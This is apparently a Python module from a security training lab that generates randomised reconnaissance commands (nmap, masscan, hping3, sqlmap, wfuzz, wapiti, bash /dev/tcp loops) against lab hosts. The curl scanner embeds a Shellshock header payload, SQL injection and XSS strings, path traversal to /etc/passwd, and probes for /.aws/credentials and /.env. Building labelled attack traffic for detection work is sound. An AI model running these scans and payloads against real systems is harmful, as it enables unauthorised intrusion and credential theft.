"""More modes of the three kinds of scans for the training profile: other tools, paces, ports, flags and ranges of victims."""

# ruff: noqa: E501 - a command stands on one line, as one types it

from __future__ import annotations

from training.lab.attacks import Field, Run, mode

SWEEP = "python3 -E {here}/tools/sweep.py"

# Reconnaissance: ports


@mode("Port Scan", varied=True)
def port_own(f: Field) -> Run:
    v = f.at(f.server)
    return (
        "sweep.py",
        f"{SWEEP} {v} 1-{f.rng.randint(300, 1500)} {f.rng.choice(['', '--shuffle'])} --parallel {f.rng.choice([4, 40])} --gap {f.rng.choice([0, 0.005, 0.02])}",
        [v],
        14,
    )


@mode("Port Scan", varied=True)
def port_own_wide(f: Field) -> Run:
    """A few ports of all hosts, which partly are not there."""
    base = f.at("web").rsplit(".", 1)[0]
    hosts = ",".join(f"{base}.{i}" for i in [*sorted(f.rng.sample(range(1, 250), 80)), int(f.at("files").rsplit(".", 1)[1])])
    return (
        "sweep.py, many hosts",
        f"{SWEEP} {hosts} {f.rng.choice(['22', '80,443', '23,2323', '445', '3389,5900'])} --shuffle --parallel 60 --wait 0.6",
        [f.range()],
        12,
    )


@mode("Port Scan", varied=True)
def port_own_udp(f: Field) -> Run:
    v = f.at(f.server)
    return (
        "sweep.py --udp",
        f"{SWEEP} {v} {f.rng.choice(['1-400', '53,67,69,111,123,137,161,500,514,520,623,1434,1900,4500,5060,5353,11211,27960'])} --udp --parallel 20 --gap {f.rng.choice([0.01, 0.05])}",
        [v],
        14,
    )


@mode("Port Scan", varied=True)
def port_ack(f: Field) -> Run:
    v, kind = f.at(f.server), f.rng.choice(["-sA", "-sW", "-sM"])
    return (
        f"nmap {kind}",
        f"nmap -n -Pn {kind} -p {f.rng.choice(['1-600', '20-30,80,443,1000-1400,8000-8100'])} --max-rate {f.rng.choice([50, 200, 900])} --ttl {f.rng.randint(40, 200)} {v}",
        [v],
        14,
    )


@mode("Port Scan", varied=True)
def port_nping(f: Field) -> Run:
    v, low, rate = f.at(f.server), f.rng.randint(1, 7000), f.rng.choice([40, 200])
    return (
        "nping -p range",
        f"nping -q --tcp --flags {f.rng.choice(['syn', 'fin', 'ack'])} -p {low}-{low + 15 * rate // 4} -c 1 --rate {rate} {v}",
        [v],
        14,
    )


@mode("Port Scan", varied=True)
def port_hping_wide(f: Field) -> Run:
    """One SYN to the next port each time, from a counting source port."""
    v, pause = f.at(f.server), f.rng.choice([4000, 15000])
    return "hping3 -S -p ++", f"hping3 -q -S -p ++{f.rng.randint(1, 9000)} -i u{pause} -c {f.count(8, 1e6 / pause)} {v}", [v], 14


@mode("Port Scan", varied=True)
def port_shell(f: Field) -> Run:
    v, low = f.at(f.server), f.rng.randint(1, 4000)
    return (
        "bash /dev/tcp",
        f'for p in $(seq {low} {low + f.rng.randint(200, 500)}); do timeout 0.5 bash -c "echo > /dev/tcp/{v}/$p"; done',
        [v],
        16,
    )


@mode("Port Scan", varied=True)
def port_masscan_udp(f: Field) -> Run:
    host = f.server
    command = f"masscan {f.at(host)} -pU:1-{f.rng.randint(300, 1500)} --rate {f.rng.choice([100, 400])} --wait 1 --adapter eth0 --router-mac {f.mac(host)} --adapter-ip {f.at('att')}"
    return "masscan UDP", command, [f.at(host)], 12


@mode("Port Scan", varied=True)
def port_nmap_wide(f: Field) -> Run:
    return (
        "nmap -sT sweep",
        f"nmap -n -Pn -sT -p {f.rng.choice(['22', '80', '1883,8883', '3389'])} --max-retries 0 --max-rate {f.rng.choice([40, 150])} {f.range()}",
        [f.range()],
        18,
    )


# Reconnaissance: operating system


def _probes(f: Field, host: str) -> list[str]:
    """hping3 options of probes in the manner of xprobe: echo with odd codes, timestamp, mask, a closed UDP port, then SYN."""
    opened, closed = f.ports(host)[0], f.rng.randint(30000, 60000)
    return [
        "-1 -C 8 -K 123",
        "-1 -C 13",
        "-1 -C 17",
        "-1 -C 15",
        f"-2 -p {closed} -d 70 -y",
        f"-S -p {opened} -y",
        f"-S -p {closed}",
        f"-R -p {closed}",
        f"-S -w 1 -p {opened}",
    ]


@mode("OS Scan", varied=True)
def os_hping_icmp(f: Field) -> Run:
    host = f.server
    rounds = " ".join(
        f"timeout 2 hping3 -q -c {f.rng.randint(1, 3)} -i u{f.rng.choice([30000, 200000])} {probe} {f.at(host)};"
        for probe in _probes(f, host)
    )
    return "hping3 xprobe-like", f"for i in 1 2; do {rounds} done", [f.at(host)], 25


@mode("OS Scan", varied=True)
def os_hping_hosts(f: Field) -> Run:
    """The same few probes at one device after the other."""
    hosts = [*f.devices()[:5], f.at("web"), f.at("infra")]
    opened = f.capture.host("iot").services[0].options["ports"][0]
    probes = [
        f"-S -p {opened} --tcp-timestamp",
        "-1 -C 13",
        "-1 -C 8 -d 32",
        f"-F -P -U -p {f.rng.randint(30000, 60000)}",
        f"-2 -p {f.rng.randint(30000, 60000)}",
    ]
    each = " ".join(f"timeout 1 hping3 -q -c 2 -i u100000 {probe} $h;" for probe in probes)
    return "hping3 stack probes, many victims", f"for h in {' '.join(hosts)}; do {each} done", hosts, 25


@mode("OS Scan", varied=True)
def os_nmap_gentle(f: Field) -> Run:
    host = f.server
    return (
        "nmap -O -T2",
        f"nmap -n -Pn -O -T2 --max-os-tries 1 -p {f.ports(host)[0]},{f.rng.randint(2000, 9000)} {f.at(host)}",
        [f.at(host)],
        24,
    )


@mode("OS Scan", varied=True)
def os_nmap_range(f: Field) -> Run:
    hosts = f.rng.sample(f.devices(), 6)
    return (
        "nmap -O -F, devices",
        f"nmap -n -Pn -O -F --max-os-tries 1 -T4 --data-length {f.rng.choice([8, 40])} {' '.join(hosts)}",
        hosts,
        25,
    )


@mode("OS Scan", varied=True)
def os_nmap_version(f: Field) -> Run:
    v = f.at(f.server)
    return "nmap -O -sU -sS", f"nmap -n -Pn -sS -sU -O --top-ports {f.rng.choice([3, 8])} --max-retries 1 {v}", [v], 25


# Reconnaissance: vulnerabilities


@mode("Vulnerability Scan", varied=True)
def vuln_curl(f: Field) -> Run:
    """A shell loop over things that should not be on a web server, with odd parameters in between."""
    seeds = [
        "/.git/HEAD",
        "/.env",
        "/wp-login.php",
        "/phpmyadmin/",
        "/server-status",
        "/cgi-bin/test.cgi",
        "/app/item?id=1%27",
        "/app/search?q=<script>alert(1)</script>",
        "/../../etc/passwd",
        "/backup.zip",
        "/actuator/env",
        "/app/item?id=1%20or%201=1",
        "/.aws/credentials",
        "/config.php.bak",
    ]
    paths = f.list(
        "odd",
        f.rng.sample(seeds, 10)
        + [f"/{word}" for word in ("admin", "test", "old", "dump.sql", "login", "console", "api/v1/users")],
    )
    return (
        "curl scanner",
        f"for i in 1 2 3; do for p in $(cat {paths}); do curl -s -g -o /dev/null --path-as-is --max-time 4 -A 'scan/1.{f.rng.randrange(9)}' -e '() {{ :;}}; id' {f.web()}$p; sleep 0.{f.rng.choice([0, 1, 2])}; done; done",
        [f.at("web")],
        18,
    )


@mode("Vulnerability Scan", varied=True)
def vuln_wfuzz(f: Field) -> Run:
    return (
        "wfuzz",
        f"wfuzz -c -t {f.rng.choice([1, 5])} -s 0.0{f.rng.choice([1, 5])} --hc 404 -w {f.paths(f.rng.randint(200, 500))} {f.web()}/{f.rng.choice(['FUZZ', 'app/FUZZ', 'app/search?q=FUZZ'])}",
        [f.at("web")],
        16,
    )


@mode("Vulnerability Scan", varied=True)
def vuln_sslscan(f: Field) -> Run:
    hosts = [f.at("web")]
    return "sslscan", f"sslscan --no-colour --show-times {f.at('web')}:443", hosts, 16


@mode("Vulnerability Scan", varied=True)
def vuln_nmap_files(f: Field) -> Run:
    v, ports = f.at("files"), ",".join(map(str, f.ports("files")))
    scripts = f.rng.choice(
        [
            "ftp-vuln*,ftp-proftpd-backdoor,ftp-vsftpd-backdoor,ssh-auth-methods,sshv1,telnet-encryption",
            "(safe or vuln) and (ftp* or ssh* or telnet*)",
        ]
    )
    return "nmap --script ftp,ssh", f"nmap -n -Pn -sV --script '{scripts}' --script-timeout 12s -p {ports} {v}", [v], 22


@mode("Vulnerability Scan", varied=True)
def vuln_nmap_infra(f: Field) -> Run:
    v = f.at("infra")
    return (
        "nmap --script dns,snmp,mqtt",
        f"nmap -n -Pn -sU -sS --script 'dns-recursion,dns-cache-snoop,dns-nsid,snmp-info,snmp-sysdescr,mqtt-subscribe,ntp-info,ntp-monlist' --script-timeout 8s -p U:53,U:161,U:123,T:53,T:1883 {v}",
        [v],
        22,
    )


@mode("Vulnerability Scan", six=True, varied=True)
def vuln_nmap_six(f: Field) -> Run:
    v = f.at("web", True)
    return (
        "nmap -6 --script http",
        f"nmap -6 -n -Pn --script 'http-enum,http-methods,http-git,http-robots.txt,http-passwd,http-phpself-xss' --script-timeout 12s -p {f.web_port},443 {v}",
        [v],
        18,
    )


@mode("Vulnerability Scan", varied=True)
def vuln_sqlmap_form(f: Field) -> Run:
    return (
        "sqlmap --data",
        f"sqlmap -u {f.web()}/app/login --data 'user=a&pw=b' --batch --flush-session --level {f.rng.choice([1, 2])} --risk 2 --technique {f.rng.choice(['BE', 'BEU'])} --delay {f.rng.choice([0, 0.05])} --output-dir {{work}}/sql",
        [f.at("web")],
        18,
    )


@mode("Vulnerability Scan", varied=True)
def vuln_wapiti_more(f: Field) -> Run:
    return (
        "wapiti, all modules",
        f"wapiti -u {f.web()}/app/ --flush-session --scope {f.rng.choice(['page', 'folder'])} -d 2 --max-scan-time 14 -m all --store-session {{work}}/wapiti",
        [f.at("web")],
        20,
    )
